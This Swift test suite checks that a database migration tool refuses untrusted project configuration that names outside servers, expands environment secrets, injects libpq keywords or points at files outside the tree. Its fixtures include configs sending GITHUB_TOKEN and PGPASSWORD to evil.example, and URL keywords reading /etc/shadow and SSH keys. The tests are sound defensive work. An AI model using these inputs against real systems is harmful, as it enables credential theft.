@testable import CoordMigrateModel
@testable import CoordMigrateScan
@testable import CoordMigrateDetect
@testable import CoordMigrateAnalysis
@testable import CoordMigrateEmit
@testable import CoordMigrateSettings
@testable import CoordMigrate
import CSQLite
import CoordMigrateTestSupport
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// The analysed tree is untrusted: its configuration may name a server, read the
/// environment, or point at files outside it. None of that happens unless the
/// user allowed it on the command line.
@Suite("Database settings from an untrusted tree")
struct UntrustedDatabaseTests {
    let secretEnvironment = ["GITHUB_TOKEN": "ghp_tokenvalue123", "PGPASSWORD": "pg-secret-value", "HOME": "/home/me"]

    func resolve(_ yaml: String, connect: Bool = false, allow: Set<String> = [], root: String = "/root") throws
        -> DatabaseResolver.Outcome
    {
        let document = ConfigDocument(path: "config.yaml", document: try ConfigParser.parseYAML(yaml))
        let options = DatabaseOptions(
            allowTreeConnection: connect, expandableVariables: allow, environment: secretEnvironment,
            workingDirectory: "/cwd")
        return DatabaseResolver.resolve(options, documents: [document], root: root)
    }

    func warning(_ outcome: DatabaseResolver.Outcome, sourceLocation: SourceLocation = #_sourceLocation) -> String {
        guard case let .unusable(warning) = outcome else {
            Issue.record("expected a warning, got \(outcome)", sourceLocation: sourceLocation)
            return ""
        }
        return warning.message
    }

    @Test("a server the tree names is not connected to without --connect-database, in either form", arguments: [
        "database: {type: postgresql, host: evil.example, dbname: '${GITHUB_TOKEN}', password: '${PGPASSWORD}'}",
        "database: {url: 'postgresql://u:${PGPASSWORD}@evil.example/${GITHUB_TOKEN}'}",
    ])
    func noConnection(_ yaml: String) throws {
        let message = warning(try resolve(yaml))
        #expect(message.contains("pass --connect-database --allow-env GITHUB_TOKEN --allow-env PGPASSWORD"), "\(message)")
        #expect(!message.contains("ghp_tokenvalue123") && !message.contains("pg-secret-value"), "\(message)")
    }

    @Test("with --connect-database, a ${NAME} is expanded only when --allow-env names it")
    func variablesNeedAllowing() throws {
        let yaml = "database: {type: postgresql, host: db.example, dbname: '${GITHUB_TOKEN}', user: app}"
        let refused = warning(try resolve(yaml, connect: true))
        #expect(refused.contains("database.dbname uses ${GITHUB_TOKEN}"))
        #expect(refused.contains("--allow-env GITHUB_TOKEN"))
        #expect(!refused.contains("ghp_tokenvalue123"))
        guard case let .target(.postgresql(target), _, _) = try resolve(yaml, connect: true, allow: ["GITHUB_TOKEN"]) else {
            Issue.record("allowed: a target")
            return
        }
        #expect(target.parameters.contains(.init(key: "dbname", value: "ghp_tokenvalue123")))
        #expect(target.display == "postgresql://app@db.example/***", "a value read from the environment is masked")
        #expect(target.secrets.contains("ghp_tokenvalue123"))
        #expect(target.allowedVariables == ["GITHUB_TOKEN"] && target.fromTree)
    }

    @Test("whatever came from the environment is scrubbed from the server's messages too")
    func scrubbedEverywhere() throws {
        let yaml = "database: {url: 'postgresql://${GITHUB_TOKEN}@db.example/work'}"
        guard case let .target(target, _, _) = try resolve(yaml, connect: true, allow: ["GITHUB_TOKEN"]) else {
            Issue.record("expected a target")
            return
        }
        #expect(target.display == "postgresql://***@db.example/work")
        let said = DatabaseSecrets.scrub("FATAL: role \"ghp_tokenvalue123\" does not exist", secrets: target.secrets)
        #expect(!said.contains("ghp_tokenvalue123"), "\(said)")
    }

    @Test("a separate dbname is never read as a connection string")
    func noKeywordInjection() throws {
        let yaml = "database: {type: postgresql, host: db.example, dbname: 'host=other passfile=/etc/shadow'}"
        guard case let .target(.postgresql(target), _, _) = try resolve(yaml, connect: true) else {
            Issue.record("expected a target")
            return
        }
        #expect(!target.expandDBName)
    }

    @Test("a URL from the tree may not set keywords that read files or change how libpq connects", arguments: [
        "passfile=/etc/shadow", "sslkey=/root/.ssh/id_rsa", "service=prod", "servicefile=/etc/pg_service.conf",
    ])
    func queryKeywords(_ query: String) throws {
        let message = warning(try resolve("database: {url: 'postgresql://db.example/work?sslmode=require&\(query)'}", connect: true))
        #expect(message.contains("which a URL from the analysed tree may not set"), "\(message)")
    }

    @Test("an unallowed reference with a default takes the default without reading the environment")
    func defaultsWithoutReading() throws {
        let outcome = try resolve("database: {type: sqlite, path: '${HOME:-data}/w.db'}")
        #expect(outcome == .target(.sqlite(path: "/root/data/w.db", display: "data/w.db", treeRoot: "/root"),
                                   source: "config.yaml", warningPath: "config.yaml"))
    }

    @Test("an SQLite file the tree names must lie inside it", arguments: [
        "/etc/passwd", "../../x.db", "data/../../x.db", "~/x.db", "..",
    ])
    func sqliteOutside(_ path: String) throws {
        let message = warning(try resolve("database: {type: sqlite, path: '\(path)'}"))
        #expect(message.contains("must lie inside it") || message.contains("outside the analysed folder"), "\(message)")
        #expect(message.contains("--database-url sqlite:PATH"))
    }

    @Test("an SQLite file reached through a link is refused: the file, or any folder on the way")
    func sqliteLinks() throws {
        let outside = try TempTree("outside")
        try SQLiteFixture.workflow(outside.absolute("secret.db"))
        let tree = try TempTree("linked")
        try tree.symlink("direct.db", to: outside.absolute("secret.db"))
        try tree.symlink("data", to: outside.path)
        try tree.dir("real")
        try tree.symlink("real/up", to: "..")
        for relative in ["direct.db", "data/secret.db", "real/up/direct.db"] {
            do {
                _ = try SQLiteSession(
                    path: tree.absolute(relative), treeRoot: tree.path, busyTimeout: 1, statementTimeout: 1)
                Issue.record("\(relative) was opened")
            } catch {
                #expect(error.message.contains("symbolic link"), "\(relative): \(error.message)")
            }
        }
    }

    @Test("a password with an unencoded / or @ is refused with a hint, not misread", arguments: [
        "postgresql://app:pa/ss@db.example/work", "postgresql://app:p@ss@db.example/work",
    ])
    func unencodedPassword(_ url: String) {
        do {
            try DatabaseOptions.validate(url: url)
            Issue.record("accepted \(url)")
        } catch {
            #expect(error.description.contains("percent-encode"), "\(error.description)")
            #expect(!error.description.contains("pa/ss") && !error.description.contains("p@ss"))
        }
        #expect(throws: Never.self) { try DatabaseOptions.validate(url: "postgresql://app:pa%2Fss@db.example/work") }
    }
}

@Suite("SQLite files as they are found")
struct SQLiteFoundTests {
    /// A WAL database with `committed` rows, none checkpointed, copied with its
    /// -wal but without its -shm (as a backup or an archive often holds it).
    func copiedWithoutSHM(committed: Int) throws -> TempTree {
        let source = try TempTree("walsource")
        let path = source.absolute("live.db")
        let db = try SQLiteFixture.open(path)
        defer { sqlite3_close_v2(db) }
        try SQLiteFixture.exec(db, "PRAGMA journal_mode = WAL; PRAGMA wal_autocheckpoint = 0;")
        try SQLiteFixture.exec(db, "CREATE TABLE messages (id INTEGER PRIMARY KEY, sender TEXT, recipient TEXT, body TEXT);")
        try SQLiteFixture.exec(db, "PRAGMA wal_checkpoint(TRUNCATE);")
        let rows = (1...committed).map { "('a', 'b', 'm\($0)')" }.joined(separator: ", ")
        try SQLiteFixture.exec(db, "INSERT INTO messages (sender, recipient, body) VALUES \(rows);")
        let tree = try TempTree("walcopy")
        try tree.dir("data")
        for suffix in ["", "-wal"] {
            try FileManager.default.copyItem(atPath: path + suffix, toPath: tree.absolute("data/w.db" + suffix))
        }
        return tree
    }

    @Test("a WAL database copied without its -shm: every committed row is counted, nothing appears in the tree")
    func walWithoutSHM() throws {
        let tree = try copiedWithoutSHM(committed: 1000)
        let listing = tree.listing()
        let before = try Data(contentsOf: URL(fileURLWithPath: tree.absolute("data/w.db-wal")))
        let session = try SQLiteSession(
            path: tree.absolute("data/w.db"), treeRoot: tree.path, busyTimeout: 1, statementTimeout: 5)
        let (m, _) = try DatabaseProbe.measure(session, engine: "sqlite", location: "data/w.db", source: "x", now: fixedNow)
        session.close()
        #expect(m.messageRows == 1000)
        #expect(tree.listing() == listing)
        #expect(try Data(contentsOf: URL(fileURLWithPath: tree.absolute("data/w.db-wal"))) == before)
    }

    @Test("a -wal file that is a link is refused, not followed")
    func linkedWAL() throws {
        let tree = try copiedWithoutSHM(committed: 3)
        try FileManager.default.moveItem(atPath: tree.absolute("data/w.db-wal"), toPath: tree.absolute("elsewhere-wal"))
        try tree.symlink("data/w.db-wal", to: "../elsewhere-wal")
        #expect(throws: DatabaseError.self) {
            try SQLiteSession(path: tree.absolute("data/w.db"), treeRoot: tree.path, busyTimeout: 1, statementTimeout: 1)
        }
    }

    /// A real session whose row count of one table fails, as a timed-out count does.
    final class CountFails: DatabaseSession {
        let inner: SQLiteSession
        let table: String
        init(_ inner: SQLiteSession, failing table: String) {
            self.inner = inner
            self.table = table
        }
        func rows(_ sql: String, _ parameters: [String]) throws(DatabaseError) -> [[String?]] {
            if sql == "SELECT count(*) FROM \"\(table)\"" {
                throw DatabaseError(message: "the statement ran longer than 5 s and was stopped")
            }
            return try inner.rows(sql, parameters)
        }
        func tables(limit: Int) throws(DatabaseError) -> (tables: [TableSchema], total: Int) { try inner.tables(limit: limit) }
        func bytes(of table: TableSchema) -> Int? { inner.bytes(of: table) }
        func databaseBytes() -> Int? { inner.databaseBytes() }
        func epochSeconds(_ column: ColumnSchema) -> String? { inner.epochSeconds(column) }
        func isReadOnly() -> Bool { inner.isReadOnly() }
        func close() { inner.close() }
    }

    @Test("a count that fails is unknown, not 0 rows, in the measurement and the plan's volume")
    func unknownCount() throws {
        let tree = try TempTree("uncounted")
        let path = tree.absolute("w.db")
        try SQLiteFixture.workflow(path)
        let session = CountFails(try sqliteSession(path), failing: "messages")
        defer { session.close() }
        let (m, notes) = try DatabaseProbe.measure(session, engine: "sqlite", location: "w.db", source: "x", now: fixedNow)
        #expect(m.messageRows == nil)
        #expect(m.eventRows == 40)
        #expect(m.rowsToMove == nil)
        #expect(m.volumeSummary.hasPrefix("rows unknown (1 of 3 tables could not be counted)"), "\(m.volumeSummary)")
        #expect(notes.contains { $0.contains("rows of table messages not counted") })
        #expect(Planner.dataVolume(m).rows == nil)
    }
}
